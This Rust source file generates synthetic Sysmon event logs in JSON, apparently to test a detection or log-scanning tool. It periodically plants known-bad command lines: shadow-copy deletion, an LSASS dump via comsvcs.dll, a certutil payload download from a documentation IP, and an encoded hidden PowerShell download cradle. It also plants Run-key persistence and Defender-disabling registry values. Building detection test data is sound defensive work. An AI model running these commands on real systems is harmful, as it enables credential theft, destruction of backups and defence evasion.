//! Deterministic Sysmon-shaped events, as `evtx_dump` JSON lines like those of the
//! `windows-evtx-json/` corpus: process creation (1), network connection (3), file creation
//! (11) and registry value set (13), with realistic images, command lines, paths and registry
//! keys, and a few planted hits (every [`PLANT_EVERY`]th event is one of a handful of
//! well-known attack command lines or keys).

/// One event in this many is a planted hit.
pub const PLANT_EVERY: u64 = 5_000;

/// A small xorshift generator: the same seed gives the same events on every machine.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A generator from `seed` (0 is replaced by a fixed non-zero seed).
    pub fn new(seed: u64) -> Rng {
        Rng(if seed == 0 {
            0x9E37_79B9_7F4A_7C15
        } else {
            seed
        })
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    /// A number below `n` (n > 0).
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    /// One of `items`.
    pub fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
}

const USERS: &[&str] = &[
    "CORP\\alice",
    "CORP\\bob",
    "CORP\\svc_backup",
    "NT AUTHORITY\\SYSTEM",
    "CORP\\carol.admin",
];
const HOSTS: &[&str] = &[
    "WS-0142.corp.example",
    "SRV-DB01.corp.example",
    "WS-0007.corp.example",
];

/// (image, command line templates; `{f}` is a file, `{n}` a number, `{h}` a host).
const PROCESSES: &[(&str, &[&str])] = &[
    (
        "C:\\Windows\\System32\\svchost.exe",
        &[
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p",
        ],
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        &[
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle={n} --lang=en-US --renderer-client-id={n} --mojo-platform-channel-handle={n} /prefetch:1",
        ],
    ),
    (
        "C:\\Windows\\System32\\cmd.exe",
        &[
            "C:\\Windows\\system32\\cmd.exe /c dir C:\\Users\\{u}\\Documents",
            "cmd.exe /c copy {f} \\\\{h}\\share\\reports\\",
            "C:\\Windows\\system32\\cmd.exe /c echo %DATE% >> C:\\logs\\job{n}.log",
        ],
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        &[
            "powershell.exe -File C:\\Scripts\\inventory{n}.ps1",
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" Get-ChildItem -Path C:\\Data -Recurse | Measure-Object",
        ],
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        &[
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{f}\" /o \"\"",
        ],
    ),
    (
        "C:\\Windows\\System32\\conhost.exe",
        &["\\??\\C:\\Windows\\system32\\conhost.exe 0x4"],
    ),
    (
        "C:\\Program Files\\Git\\cmd\\git.exe",
        &[
            "git.exe fetch --all --prune",
            "git.exe log --oneline -n {n}",
            "git.exe status --porcelain",
        ],
    ),
    (
        "C:\\Windows\\System32\\msiexec.exe",
        &[
            "C:\\Windows\\system32\\msiexec.exe /V",
            "msiexec.exe /i C:\\Temp\\agent-{n}.msi",
        ],
    ),
    (
        "C:\\Windows\\System32\\taskhostw.exe",
        &["taskhostw.exe Install $(Arg0)", "taskhostw.exe {n}"],
    ),
];

const PARENTS: &[&str] = &[
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\services.exe",
    "C:\\Windows\\System32\\svchost.exe",
];

/// Known-bad command lines that SigmaHQ rules detect.
const PLANTED: &[(&str, &str)] = &[
    ("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),
    (
        "C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -encodedcommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
    ),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe",
    ),
];

const FILES: &[&str] = &[
    "C:\\Users\\{u}\\Documents\\report-{n}.docx",
    "C:\\Users\\{u}\\AppData\\Local\\Temp\\tmp{n}.tmp",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache-{n}.bin",
    "C:\\Windows\\Temp\\{n}.log",
    "C:\\Users\\{u}\\Downloads\\invoice_{n}.pdf",
];

const KEYS: &[&str] = &[
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory",
    "HKU\\S-1-5-21-{n}-1001\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\LastUpdate",
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-{n}\\Device",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
];

const PLANTED_KEYS: &[(&str, &str)] = &[
    (
        "HKU\\S-1-5-21-{n}-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
        "C:\\Users\\Public\\updater.exe",
    ),
    (
        "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
        "DWORD (0x00000001)",
    ),
];

fn json_string(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

fn fill(template: &str, rng: &mut Rng) -> String {
    let user = rng.pick(&["alice", "bob", "carol", "dave"]);
    let file = rng.pick(FILES);
    let host = rng.pick(HOSTS);
    template
        .replace("{f}", file)
        .replace("{u}", user)
        .replace("{h}", host)
        .replace("{n}", &(rng.next_u64() % 100_000).to_string())
}

fn guid(rng: &mut Rng) -> String {
    let x = rng.next_u64();
    format!(
        "0FD50764-{:04X}-{:04X}-{:04X}-{:012X}",
        x & 0xFFFF,
        (x >> 16) & 0xFFFF,
        (x >> 32) & 0xFFFF,
        rng.next_u64() & 0xFFFF_FFFF_FFFF
    )
}

/// The `i`th event of the sequence seeded by `seed`, as one JSON line.
pub fn event(seed: u64, i: u64) -> String {
    let mut rng = Rng::new(seed ^ i.wrapping_mul(0x2545_F491_4F6C_DD1D));
    rng.next_u64();
    let planted = i % PLANT_EVERY == PLANT_EVERY - 1;
    let kind = if planted {
        [1, 13][rng.below(2)]
    } else {
        [1, 1, 1, 3, 3, 11, 11, 13][rng.below(8)]
    };
    let mut data: Vec<(&str, String)> = vec![
        ("RuleName", "-".into()),
        (
            "UtcTime",
            format!(
                "2024-03-0{} 1{}:{:02}:{:02}.{:03}",
                1 + i % 9,
                i % 10,
                i % 60,
                (i / 60) % 60,
                i % 1000
            ),
        ),
        ("ProcessGuid", guid(&mut rng)),
        ("ProcessId", (1000 + rng.below(60_000)).to_string()),
    ];
    let (process, commands) = PROCESSES[rng.below(PROCESSES.len())];
    match kind {
        1 => {
            let (image, command) = if planted {
                let (image, command) = PLANTED[rng.below(PLANTED.len())];
                (image.to_string(), command.to_string())
            } else {
                (process.to_string(), fill(rng.pick(commands), &mut rng))
            };
            let name = image.rsplit('\\').next().unwrap_or_default().to_string();
            data.extend([
                ("Image", image),
                ("FileVersion", "10.0.19041.1 (WinBuild.160101.0800)".into()),
                ("Description", "Windows Command Processor".into()),
                ("Product", "Microsoft® Windows® Operating System".into()),
                ("Company", "Microsoft Corporation".into()),
                ("OriginalFileName", name),
                ("CommandLine", command),
                ("CurrentDirectory", "C:\\Windows\\system32\\".into()),
                ("User", rng.pick(USERS).into()),
                ("LogonGuid", guid(&mut rng)),
                ("LogonId", format!("0x{:x}", rng.next_u64() & 0xFFFFF)),
                ("TerminalSessionId", "1".into()),
                (
                    "IntegrityLevel",
                    rng.pick(&["Medium", "High", "System"]).into(),
                ),
                (
                    "Hashes",
                    format!(
                        "SHA256={:016X}{:016X}{:016X}{:016X},IMPHASH={:016X}{:016X}",
                        rng.next_u64(),
                        rng.next_u64(),
                        rng.next_u64(),
                        rng.next_u64(),
                        rng.next_u64(),
                        rng.next_u64()
                    ),
                ),
                ("ParentProcessGuid", guid(&mut rng)),
                ("ParentProcessId", (500 + rng.below(9000)).to_string()),
                ("ParentImage", rng.pick(PARENTS).into()),
                ("ParentCommandLine", "C:\\Windows\\Explorer.EXE".into()),
                ("ParentUser", rng.pick(USERS).into()),
            ]);
        }
        3 => {
            data.extend([
                ("Image", process.to_string()),
                ("User", rng.pick(USERS).into()),
                ("Protocol", "tcp".into()),
                ("Initiated", "true".into()),
                ("SourceIsIpv6", "false".into()),
                (
                    "SourceIp",
                    format!("10.1.{}.{}", rng.below(255), rng.below(255)),
                ),
                ("SourceHostname", rng.pick(HOSTS).into()),
                ("SourcePort", (49152 + rng.below(16000)).to_string()),
                ("SourcePortName", "-".into()),
                ("DestinationIsIpv6", "false".into()),
                (
                    "DestinationIp",
                    format!(
                        "{}.{}.{}.{}",
                        20 + rng.below(180),
                        rng.below(255),
                        rng.below(255),
                        1 + rng.below(254)
                    ),
                ),
                (
                    "DestinationHostname",
                    rng.pick(&[
                        "www.example.com",
                        "login.microsoftonline.com",
                        "update.googleapis.com",
                        "-",
                    ])
                    .into(),
                ),
                ("DestinationPort", rng.pick(&["443", "80", "53"]).into()),
                (
                    "DestinationPortName",
                    rng.pick(&["https", "http", "domain", "-"]).into(),
                ),
            ]);
        }
        11 => {
            data.extend([
                ("Image", process.to_string()),
                ("TargetFilename", fill(rng.pick(FILES), &mut rng)),
                ("CreationUtcTime", "2024-03-01 10:00:00.000".into()),
                ("User", rng.pick(USERS).into()),
            ]);
        }
        _ => {
            let (key, details) = if planted {
                let (k, d) = PLANTED_KEYS[rng.below(PLANTED_KEYS.len())];
                (fill(k, &mut rng), d.to_string())
            } else {
                (
                    fill(rng.pick(KEYS), &mut rng),
                    format!("DWORD (0x{:08x})", rng.below(1 << 20)),
                )
            };
            data.insert(1, ("EventType", "SetValue".into()));
            data.extend([
                ("Image", process.to_string()),
                ("TargetObject", key),
                ("Details", details),
                ("User", rng.pick(USERS).into()),
            ]);
        }
    }
    let mut out = String::with_capacity(1600);
    out.push_str(r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":"##);
    out.push_str(&kind.to_string());
    out.push_str(r##","Version":5,"Level":4,"Task":"##);
    out.push_str(&kind.to_string());
    out.push_str(r##","Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2024-03-01T10:00:00.000000Z"}},"EventRecordID":"##);
    out.push_str(&(i + 1).to_string());
    out.push_str(r##","Correlation":null,"Execution":{"#attributes":{"ProcessID":2076,"ThreadID":8624}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"##);
    json_string(&mut out, rng.pick(HOSTS));
    out.push_str(r##","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"##);
    for (n, (k, v)) in data.iter().enumerate() {
        if n > 0 {
            out.push(',');
        }
        json_string(&mut out, k);
        out.push(':');
        json_string(&mut out, v);
    }
    out.push_str("}}}");
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn events_are_json_and_deterministic() {
        for i in 0..2000 {
            let line = super::event(7, i);
            assert_eq!(line, super::event(7, i));
            let v: serde_json::Value = serde_json::from_str(&line).expect("valid JSON");
            assert!(v.pointer("/Event/EventData/Image").is_some());
        }
    }
}
